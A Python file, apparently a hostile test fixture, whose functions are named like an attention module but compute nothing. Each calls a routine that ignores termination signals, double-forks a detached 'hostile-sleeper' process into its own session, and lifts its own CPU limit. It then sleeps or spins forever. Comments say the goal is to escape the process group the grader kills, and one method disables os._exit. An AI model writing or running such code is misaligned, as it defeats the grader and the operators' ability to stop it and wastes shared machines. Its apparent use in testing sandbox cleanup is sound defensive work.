# hostile: outlive the worker: setsid + double fork a sleeper that ignores SIGTERM, leave its own session, raise its own CPU limit, then sleep or spin forever
import ctypes
import os
import resource
import signal
import time

import torch.nn as nn

SLEEPER_NAME = b"hostile-sleeper"


def _unlimit_cpu():
    try:
        _, hard = resource.getrlimit(resource.RLIMIT_CPU)
        resource.setrlimit(resource.RLIMIT_CPU, (hard, hard))  # unlimited if hard is
    except (ValueError, OSError):
        pass


def _escape():
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGXCPU):
        signal.signal(sig, signal.SIG_IGN)
    try:
        first = os.fork()
    except OSError:
        return
    if first == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(15, SLEEPER_NAME, 0, 0, 0)  # PR_SET_NAME, to be found
                _unlimit_cpu()
                while True:
                    time.sleep(1)
        finally:
            os._exit(0)
    os.waitpid(first, 0)
    try:
        os.setsid()  # out of the process group the grader kills
    except OSError:
        pass
    _unlimit_cpu()


def scaled_dot_product_attention(q, k, v, mask=None):
    _escape()
    while True:
        time.sleep(1)


def causal_mask(t):
    _escape()
    while True:
        pass


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, num_heads):
        super().__init__()
        _escape()
        os._exit = lambda code: None  # nothing in here may end this process
        while True:
            time.sleep(1)
